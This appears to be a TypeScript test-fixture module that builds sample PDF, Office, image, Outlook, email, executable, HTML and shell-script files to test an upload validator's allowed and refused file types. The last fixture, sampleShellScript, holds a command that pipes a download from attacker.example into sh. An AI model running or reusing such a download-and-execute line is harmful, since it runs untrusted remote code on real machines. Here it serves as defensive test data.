// Sample proof-of-execution file contents (allowed and refused kinds) for unit and integration tests, built byte by byte.
import { deflateRawSync, deflateSync } from "node:zlib";

const encoder = new TextEncoder();
const ascii = (text: string) => encoder.encode(text);

function concat(parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let offset = 0;
  for (const part of parts) {
    out.set(part, offset);
    offset += part.length;
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------------
// PDF

/** A valid minimal one-page PDF (correct xref offsets); with sizeBytes, padded with an unreferenced stream object to exactly that size. */
export function samplePdf(sizeBytes?: number): Uint8Array {
  const build = (padding: number) => {
    const objects = [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
      null, // contents stream, below
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ];
    const content = "BT /F1 18 Tf 72 770 Td (Proof of execution) Tj ET";
    // The customary second line: a comment of bytes ≥ 0x80, so transfer tools treat the file as binary.
    const parts: Uint8Array[] = [concat([ascii("%PDF-1.7\n%"), Uint8Array.of(0xe2, 0xe3, 0xcf, 0xd3), ascii("\n")])];
    const offsets: number[] = [];
    let length = parts[0].length;
    const push = (part: Uint8Array) => {
      parts.push(part);
      length += part.length;
    };
    objects.forEach((object, i) => {
      offsets.push(length);
      push(ascii(object === null ? `${i + 1} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n` : `${i + 1} 0 obj\n${object}\nendobj\n`));
    });
    if (padding > 0) {
      offsets.push(length);
      push(ascii(`6 0 obj\n<< /Length ${padding} >>\nstream\n`));
      push(new Uint8Array(padding).fill(0x20));
      push(ascii("\nendstream\nendobj\n"));
    }
    const xrefAt = length;
    const xref = ["xref", `0 ${offsets.length + 1}`, "0000000000 65535 f ", ...offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n `)];
    push(ascii(`${xref.join("\n")}\ntrailer\n<< /Size ${offsets.length + 1} /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`));
    return concat(parts);
  };
  const minimal = build(0);
  if (sizeBytes === undefined || sizeBytes <= minimal.length) return minimal;
  // The padding object adds its own framing and changes a few digit counts: converge on the exact size.
  let padding = sizeBytes - minimal.length;
  for (;;) {
    const pdf = build(padding);
    if (pdf.length === sizeBytes) return pdf;
    padding += sizeBytes - pdf.length;
    if (padding <= 0) return minimal;
  }
}

// ---------------------------------------------------------------------------------------------------------------
// ZIP (STORE or DEFLATE), enough for OOXML packages

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(data: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of data) crc = crcTable[(crc ^ byte) & 0xff] ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

export type ZipEntry = { name: string; data: Uint8Array | string };
export type ZipOptions = {
  /** DEFLATE the entries (default: STORE). */
  deflate?: boolean;
  /** Write sizes and CRC in data descriptors after each entry instead of the local header, as streaming writers do. */
  dataDescriptors?: boolean;
};

/** A ZIP archive with local headers, central directory and end record, entries in the given order. */
export function buildZip(entries: ZipEntry[], options: ZipOptions = {}): Uint8Array {
  const local: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = ascii(entry.name);
    const data = typeof entry.data === "string" ? ascii(entry.data) : entry.data;
    const stored = options.deflate ? new Uint8Array(deflateRawSync(data)) : data;
    const crc = crc32(data);
    const method = options.deflate ? 8 : 0;
    const flags = options.dataDescriptors ? 0x0008 : 0;
    const header = new DataView(new ArrayBuffer(30));
    header.setUint32(0, 0x04034b50, true);
    header.setUint16(4, 20, true); // version needed
    header.setUint16(6, flags, true);
    header.setUint16(8, method, true);
    header.setUint16(10, 0, true); // time
    header.setUint16(12, 0x21, true); // date 1980-01-01
    header.setUint32(14, options.dataDescriptors ? 0 : crc, true);
    header.setUint32(18, options.dataDescriptors ? 0 : stored.length, true);
    header.setUint32(22, options.dataDescriptors ? 0 : data.length, true);
    header.setUint16(26, name.length, true);
    header.setUint16(28, 0, true);
    const parts = [new Uint8Array(header.buffer), name, stored];
    if (options.dataDescriptors) {
      const descriptor = new DataView(new ArrayBuffer(16));
      descriptor.setUint32(0, 0x08074b50, true);
      descriptor.setUint32(4, crc, true);
      descriptor.setUint32(8, stored.length, true);
      descriptor.setUint32(12, data.length, true);
      parts.push(new Uint8Array(descriptor.buffer));
    }
    const record = concat(parts);
    local.push(record);

    const directory = new DataView(new ArrayBuffer(46));
    directory.setUint32(0, 0x02014b50, true);
    directory.setUint16(4, 20, true); // version made by
    directory.setUint16(6, 20, true);
    directory.setUint16(8, flags, true);
    directory.setUint16(10, method, true);
    directory.setUint16(12, 0, true);
    directory.setUint16(14, 0x21, true);
    directory.setUint32(16, crc, true);
    directory.setUint32(20, stored.length, true);
    directory.setUint32(24, data.length, true);
    directory.setUint16(28, name.length, true);
    directory.setUint32(42, offset, true);
    central.push(concat([new Uint8Array(directory.buffer), name]));
    offset += record.length;
  }
  const centralBytes = concat(central);
  const end = new DataView(new ArrayBuffer(22));
  end.setUint32(0, 0x06054b50, true);
  end.setUint16(8, entries.length, true);
  end.setUint16(10, entries.length, true);
  end.setUint32(12, centralBytes.length, true);
  end.setUint32(16, offset, true);
  return concat([...local, centralBytes, new Uint8Array(end.buffer)]);
}

export type OoxmlOptions = ZipOptions & {
  /** Add a media entry (word/media, xl/media or ppt/media) of that many incompressible bytes. */
  mediaBytes?: number;
  /** Put the media entry first, before [Content_Types].xml (default: after it, as Office does). */
  mediaFirst?: boolean;
};

const relationships = (type: string, target: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"/></Relationships>`;

function ooxml(folder: string, mainPart: string, mainType: string, parts: ZipEntry[], options: OoxmlOptions): Uint8Array {
  const overrides = [`/${folder}/${mainPart}`, ...parts.map((part) => `/${part.name}`)].map((name, i) =>
    i === 0 ? `<Override PartName="${name}" ContentType="${mainType}"/>` : "",
  );
  const contentTypes = {
    name: "[Content_Types].xml",
    data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>${overrides.join("")}</Types>`,
  };
  const media: ZipEntry[] = [];
  if (options.mediaBytes) {
    const noise = new Uint8Array(options.mediaBytes);
    let state = 0x12345678;
    for (let i = 0; i < noise.length; i++) {
      state = (Math.imul(state, 1103515245) + 12345) >>> 0; // incompressible, so DEFLATE keeps the entry large
      noise[i] = state >>> 24;
    }
    media.push({ name: `${folder}/media/image1.png`, data: noise });
  }
  const rest = [{ name: "_rels/.rels", data: relationships("officeDocument", `${folder}/${mainPart}`) }, ...parts];
  const entries = options.mediaFirst ? [...media, contentTypes, ...rest] : [contentTypes, ...rest, ...media];
  return buildZip(entries, options);
}

/** A minimal Word document (one paragraph). */
export function sampleDocx(options: OoxmlOptions = {}): Uint8Array {
  return ooxml(
    "word",
    "document.xml",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    [
      {
        name: "word/document.xml",
        data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Proof of execution</w:t></w:r></w:p></w:body></w:document>`,
      },
    ],
    options,
  );
}

/** A minimal Excel workbook (one sheet, one cell). */
export function sampleXlsx(options: OoxmlOptions = {}): Uint8Array {
  return ooxml(
    "xl",
    "workbook.xml",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    [
      {
        name: "xl/workbook.xml",
        data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`,
      },
      { name: "xl/_rels/workbook.xml.rels", data: relationships("worksheet", "worksheets/sheet1.xml") },
      {
        name: "xl/worksheets/sheet1.xml",
        data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>42</v></c></row></sheetData></worksheet>`,
      },
    ],
    options,
  );
}

/** A minimal PowerPoint presentation (the presentation part only). */
export function samplePptx(options: OoxmlOptions = {}): Uint8Array {
  return ooxml(
    "ppt",
    "presentation.xml",
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    [
      {
        name: "ppt/presentation.xml",
        data: `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`,
      },
    ],
    options,
  );
}

/** A macro-enabled Word document (.docm): OOXML, but not an allowed kind. */
export function sampleDocm(): Uint8Array {
  return ooxml("word", "document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", [{ name: "word/document.xml", data: "<w:document/>" }], {});
}

/** A ZIP that is not OOXML (no [Content_Types].xml). */
export function sampleZip(): Uint8Array {
  return buildZip([
    { name: "readme.txt", data: "Proof of execution, zipped.\n" },
    { name: "photos/site.jpg", data: sampleJpeg() },
  ]);
}

// ---------------------------------------------------------------------------------------------------------------
// Images

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const chunk = new Uint8Array(12 + data.length);
  const view = new DataView(chunk.buffer);
  view.setUint32(0, data.length);
  chunk.set(ascii(type), 4);
  chunk.set(data, 8);
  view.setUint32(8 + data.length, crc32(chunk.subarray(4, 8 + data.length)));
  return chunk;
}

/** A valid 1×1 opaque RGB PNG; textBytes adds a tEXt chunk of that size before the image data. */
export function samplePng(textBytes = 0): Uint8Array {
  const header = new Uint8Array(13);
  const view = new DataView(header.buffer);
  view.setUint32(0, 1); // width
  view.setUint32(4, 1); // height
  header.set([8, 2, 0, 0, 0], 8); // 8-bit, truecolour, deflate, adaptive filter, no interlace
  const text = textBytes > 0 ? [pngChunk("tEXt", concat([ascii("Comment\0"), new Uint8Array(Math.max(0, textBytes - 8)).fill(0x61)]))] : [];
  const pixels = new Uint8Array(deflateSync(Uint8Array.of(0, 0x1f, 0x6f, 0xb4))); // filter byte + one RGB pixel
  return concat([
    Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
    pngChunk("IHDR", header),
    ...text,
    pngChunk("IDAT", pixels),
    pngChunk("IEND", new Uint8Array(0)),
  ]);
}

/** A valid 1×1 grey baseline JPEG (JFIF): one DC and one AC Huffman code, a single block that is all zero. */
export function sampleJpeg(): Uint8Array {
  const segment = (marker: number, body: number[]) => [0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff, ...body];
  const huffman = (tableClassAndId: number) => [tableClassAndId, 1, ...new Array<number>(15).fill(0), 0x00]; // one 1-bit code for symbol 0
  return Uint8Array.from([
    0xff, 0xd8, // SOI
    ...segment(0xe0, [...ascii("JFIF\0"), 1, 1, 0, 0, 1, 0, 1, 0, 0]),
    ...segment(0xdb, [0x00, ...new Array<number>(64).fill(1)]), // quantisation table 0
    ...segment(0xc0, [8, 0, 1, 0, 1, 1, 1, 0x11, 0]), // baseline, 1×1, one component
    ...segment(0xc4, huffman(0x00)), // DC table 0
    ...segment(0xc4, huffman(0x10)), // AC table 0
    ...segment(0xda, [1, 1, 0x00, 0, 63, 0]), // start of scan
    0x3f, // DC difference 0 ("0"), end of block ("0"), padded with 1-bits
    0xff, 0xd9, // EOI
  ]);
}

// ---------------------------------------------------------------------------------------------------------------
// Compound File Binary (MS-CFB): Outlook .msg, Word .doc

export type CfbNode = { name: string; data?: Uint8Array; children?: CfbNode[] };

const ENDOFCHAIN = 0xfffffffe;
const FATSECT = 0xfffffffd;
const FREESECT = 0xffffffff;

/**
 * A version 3 compound file (512-byte sectors) holding the given tree under the root storage: streams under 4096 bytes
 * in the mini stream, larger ones in regular sectors, children of each storage as a balanced tree in CFB name order.
 * Layout: header, FAT sector(s), directory sectors, mini FAT, mini stream, large streams.
 */
export function buildCfb(rootChildren: CfbNode[]): Uint8Array {
  type Entry = { name: string; type: 1 | 2 | 5; data: Uint8Array; left: number; right: number; child: number; start: number };
  const entries: Entry[] = [{ name: "Root Entry", type: 5, data: new Uint8Array(0), left: FREESECT, right: FREESECT, child: FREESECT, start: ENDOFCHAIN }];
  const compare = (a: Entry, b: Entry) => a.name.length - b.name.length || (a.name.toUpperCase() < b.name.toUpperCase() ? -1 : a.name.toUpperCase() > b.name.toUpperCase() ? 1 : 0);
  const addChildren = (nodes: CfbNode[]): number => {
    const ids = nodes.map((node) => {
      entries.push({ name: node.name, type: node.children ? 1 : 2, data: node.data ?? new Uint8Array(0), left: FREESECT, right: FREESECT, child: FREESECT, start: ENDOFCHAIN });
      return entries.length - 1;
    });
    nodes.forEach((node, i) => {
      if (node.children) entries[ids[i]].child = addChildren(node.children);
    });
    const sorted = ids.sort((a, b) => compare(entries[a], entries[b]));
    const balance = (from: number, to: number): number => {
      if (from > to) return FREESECT;
      const middle = (from + to) >> 1;
      entries[sorted[middle]].left = balance(from, middle - 1);
      entries[sorted[middle]].right = balance(middle + 1, to);
      return sorted[middle];
    };
    return balance(0, sorted.length - 1);
  };
  entries[0].child = addChildren(rootChildren);

  // Mini stream: streams under the cutoff, in 64-byte mini sectors.
  const miniFat: number[] = [];
  const miniStream: Uint8Array[] = [];
  for (const entry of entries) {
    if (entry.type !== 2 || entry.data.length === 0 || entry.data.length >= 4096) continue;
    const count = Math.ceil(entry.data.length / 64);
    entry.start = miniFat.length;
    for (let i = 0; i < count; i++) miniFat.push(i === count - 1 ? ENDOFCHAIN : miniFat.length + 1);
    const padded = new Uint8Array(count * 64);
    padded.set(entry.data);
    miniStream.push(padded);
  }
  const miniStreamBytes = concat(miniStream);
  entries[0].data = miniStreamBytes;

  const sectors = (bytes: number) => Math.ceil(bytes / 512);
  const directorySectors = sectors(entries.length * 128);
  const miniFatSectors = sectors(miniFat.length * 4);
  const largeStreams = entries.filter((entry) => entry.type === 2 && entry.data.length >= 4096);
  const dataSectors = sectors(miniStreamBytes.length) + largeStreams.reduce((sum, entry) => sum + sectors(entry.data.length), 0);
  let fatSectors = 1;
  while (fatSectors * 128 < fatSectors + directorySectors + miniFatSectors + dataSectors) fatSectors++;
  if (fatSectors > 109) throw new Error("buildCfb: too large for a header-only DIFAT");

  const fat: number[] = [];
  const chain = (count: number) => {
    const first = fat.length;
    for (let i = 0; i < count; i++) fat.push(i === count - 1 ? ENDOFCHAIN : fat.length + 1);
    return count === 0 ? ENDOFCHAIN : first;
  };
  for (let i = 0; i < fatSectors; i++) fat.push(FATSECT);
  const firstDirectorySector = chain(directorySectors);
  const firstMiniFatSector = chain(miniFatSectors);
  entries[0].start = chain(sectors(miniStreamBytes.length));
  for (const entry of largeStreams) entry.start = chain(sectors(entry.data.length));

  const totalSectors = fat.length;
  const file = new Uint8Array(512 * (1 + totalSectors));
  const view = new DataView(file.buffer);
  const sectorOffset = (sector: number) => 512 * (sector + 1);

  file.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  view.setUint16(0x18, 0x3e, true); // minor version
  view.setUint16(0x1a, 3, true); // major version 3
  view.setUint16(0x1c, 0xfffe, true); // byte order
  view.setUint16(0x1e, 9, true); // 512-byte sectors
  view.setUint16(0x20, 6, true); // 64-byte mini sectors
  view.setUint32(0x2c, fatSectors, true);
  view.setUint32(0x30, firstDirectorySector, true);
  view.setUint32(0x38, 4096, true); // mini stream cutoff
  view.setUint32(0x3c, miniFatSectors === 0 ? ENDOFCHAIN : firstMiniFatSector, true);
  view.setUint32(0x40, miniFatSectors, true);
  view.setUint32(0x44, ENDOFCHAIN, true); // no DIFAT sectors
  for (let i = 0; i < 109; i++) view.setUint32(0x4c + i * 4, i < fatSectors ? i : FREESECT, true);

  for (let i = 0; i < fatSectors * 128; i++) view.setUint32(sectorOffset(0) + i * 4, i < fat.length ? fat[i] : FREESECT, true);

  const directoryStart = sectorOffset(firstDirectorySector);
  for (let id = 0; id < directorySectors * 4; id++) {
    const offset = directoryStart + id * 128;
    const entry = entries[id];
    if (!entry) {
      view.setUint32(offset + 0x44, FREESECT, true);
      view.setUint32(offset + 0x48, FREESECT, true);
      view.setUint32(offset + 0x4c, FREESECT, true);
      continue;
    }
    for (let i = 0; i < entry.name.length; i++) view.setUint16(offset + i * 2, entry.name.charCodeAt(i), true);
    view.setUint16(offset + 0x40, (entry.name.length + 1) * 2, true);
    file[offset + 0x42] = entry.type;
    file[offset + 0x43] = 1; // black
    view.setUint32(offset + 0x44, entry.left, true);
    view.setUint32(offset + 0x48, entry.right, true);
    view.setUint32(offset + 0x4c, entry.child, true);
    view.setUint32(offset + 0x74, entry.type === 1 ? 0 : entry.data.length === 0 ? ENDOFCHAIN : entry.start, true);
    view.setUint32(offset + 0x78, entry.type === 1 ? 0 : entry.data.length, true);
  }
  if (miniFatSectors > 0) {
    const start = sectorOffset(firstMiniFatSector);
    for (let i = 0; i < miniFatSectors * 128; i++) view.setUint32(start + i * 4, i < miniFat.length ? miniFat[i] : FREESECT, true);
  }
  if (miniStreamBytes.length > 0) file.set(miniStreamBytes, sectorOffset(entries[0].start));
  for (const entry of largeStreams) file.set(entry.data, sectorOffset(entry.start));
  return file;
}

const utf16 = (text: string) => {
  const bytes = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) new DataView(bytes.buffer).setUint16(i * 2, text.charCodeAt(i), true);
  return bytes;
};

/** The property stream header of a top-level message (MS-OXMSG §2.4.1.1): 32 bytes, then 16 bytes per fixed-size property. */
function propertiesStream(): Uint8Array {
  const stream = new Uint8Array(32 + 16);
  const view = new DataView(stream.buffer);
  view.setUint32(8, 1, true); // next recipient ID
  view.setUint32(12, 0, true); // next attachment ID
  view.setUint32(16, 1, true); // recipient count
  view.setUint32(20, 0, true); // attachment count
  view.setUint32(32, 0x0e070003, true); // PidTagMessageFlags, PtypInteger32
  view.setUint32(36, 0x6, true); // readable | writable
  view.setUint32(40, 0x1, true); // MSGFLAG_READ
  return stream;
}

/**
 * A minimal Outlook message: property stream, subject, message class, body, named-property and recipient storages.
 * With attachment, an attachment too: "binary" keeps a .doc file's bytes in a stream (its own directory, with
 * "WordDocument", then sits inside the msg's data sectors); "embedded" stores a .doc as a sub-storage (so a "WordDocument"
 * entry is in the msg's directory, below the root); bytes are attached as they are (binary).
 */
export function sampleMsg(options: { attachment?: "binary" | "embedded" | Uint8Array } = {}): Uint8Array {
  const attachmentData: CfbNode =
    options.attachment === "embedded"
      ? { name: "__substg1.0_3701000D", children: [{ name: "WordDocument", data: new Uint8Array(4608) }, { name: "1Table", data: new Uint8Array(1024) }] } // PidTagAttachDataObject
      : { name: "__substg1.0_37010102", data: options.attachment instanceof Uint8Array ? options.attachment : sampleDoc() }; // PidTagAttachDataBinary
  const attachments: CfbNode[] = options.attachment
    ? [
        {
          name: "__attach_version1.0_#00000000",
          children: [{ name: "__properties_version1.0", data: new Uint8Array(8 + 16) }, attachmentData, { name: "__substg1.0_3707001F", data: utf16("contract.doc") }],
        },
      ]
    : [];
  return buildCfb([
    { name: "__properties_version1.0", data: propertiesStream() },
    { name: "__substg1.0_0037001F", data: utf16("Signed contract") }, // PidTagSubject
    { name: "__substg1.0_001A001F", data: utf16("IPM.Note") }, // PidTagMessageClass
    { name: "__substg1.0_1000001F", data: utf16("Please find the proof of execution attached.") }, // PidTagBody
    { name: "__nameid_version1.0", children: [{ name: "__substg1.0_00020102" }, { name: "__substg1.0_00030102" }, { name: "__substg1.0_00040102" }] },
    {
      name: "__recip_version1.0_#00000000",
      children: [
        { name: "__properties_version1.0", data: new Uint8Array(8 + 16) },
        { name: "__substg1.0_3001001F", data: utf16("Claims office") },
      ],
    },
    ...attachments,
  ]);
}

/**
 * A minimal Word 97–2003 document: "WordDocument", "1Table" and summary streams. With text, that text is
 * stored UTF-16LE inside the WordDocument stream (padded past the mini stream cutoff), as Word stores document text.
 */
export function sampleDoc(text = "Proof of execution"): Uint8Array {
  const wordDocument = new Uint8Array(4096 + 512);
  wordDocument.set([0xec, 0xa5, 0xc1, 0x00]); // FIB magic (wIdent 0xA5EC, nFib 0x00C1)
  wordDocument.set(utf16(text), 0x800);
  return buildCfb([
    { name: "WordDocument", data: wordDocument },
    { name: "1Table", data: new Uint8Array(1024) },
    { name: "\u0005SummaryInformation", data: new Uint8Array(256) },
    { name: "\u0005DocumentSummaryInformation", data: new Uint8Array(256) },
    { name: "\u0001CompObj", data: new Uint8Array(100) },
  ]);
}

/** A minimal Excel 97–2003 workbook: "Workbook" stream. */
export function sampleXls(): Uint8Array {
  return buildCfb([
    { name: "Workbook", data: new Uint8Array(4096) },
    { name: "\u0005SummaryInformation", data: new Uint8Array(256) },
  ]);
}

// ---------------------------------------------------------------------------------------------------------------
// Text and executables

/** An RFC 822 message as Thunderbird or Outlook "save as" writes it (CRLF line endings, folded header). */
export function sampleEml(options: { leadingBlankLines?: number; body?: Uint8Array } = {}): Uint8Array {
  const headers = [
    "Return-Path: <site.manager@contractor.example>",
    "Received: from mail.contractor.example (mail.contractor.example [192.0.2.10])",
    "\tby mx.cpor.example with ESMTPS id 4Xy7; Tue, 3 Mar 2026 09:12:44 +0100",
    "From: Site Manager <site.manager@contractor.example>",
    "To: Claims Office <claims@cpor.example>",
    "Subject: Proof of execution - work order 2026-0142",
    "Date: Tue, 3 Mar 2026 09:12:40 +0100",
    "Message-ID: <20260303091240.4711@contractor.example>",
    "MIME-Version: 1.0",
    'Content-Type: text/plain; charset="utf-8"',
    "Content-Transfer-Encoding: 8bit",
  ];
  const body = options.body ?? ascii("Hello,\r\n\r\nthe works were completed on 2 March. Café photos follow.\r\n");
  return concat([ascii("\r\n".repeat(options.leadingBlankLines ?? 0) + headers.join("\r\n") + "\r\n\r\n"), body]);
}

/** A Windows executable: DOS MZ header and stub pointing at a PE header with one (empty) section. */
export function sampleExe(): Uint8Array {
  const exe = new Uint8Array(1024);
  const view = new DataView(exe.buffer);
  exe.set(ascii("MZ"));
  view.setUint16(0x02, 0x90, true);
  view.setUint16(0x04, 3, true);
  view.setUint16(0x08, 4, true); // header paragraphs
  view.setUint16(0x18, 0x40, true);
  view.setUint32(0x3c, 0x80, true); // e_lfanew
  exe.set(ascii("This program cannot be run in DOS mode.\r\r\n$"), 0x4e);
  exe.set(ascii("PE\0\0"), 0x80);
  view.setUint16(0x84, 0x8664, true); // machine: x86-64
  view.setUint16(0x86, 1, true); // one section
  view.setUint16(0x94, 0xf0, true); // optional header size
  view.setUint16(0x96, 0x22, true); // executable image, large-address aware
  view.setUint16(0x98, 0x20b, true); // PE32+
  return exe;
}

/** An ELF 64-bit executable header. */
export function sampleElf(): Uint8Array {
  const elf = new Uint8Array(128);
  elf.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  new DataView(elf.buffer).setUint16(16, 2, true); // ET_EXEC
  new DataView(elf.buffer).setUint16(18, 0x3e, true); // x86-64
  return elf;
}

export function sampleHtml(): Uint8Array {
  return ascii(
    '<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Proof of execution</title>\n</head>\n<body>\n<script>fetch("/api/claims").then((r) => r.json())</script>\n</body>\n</html>\n',
  );
}

export function sampleShellScript(): Uint8Array {
  return ascii('#!/bin/sh\n# proof-of-execution.sh\nset -e\ncurl -s https://attacker.example/payload | sh\necho "From: done"\n');
}
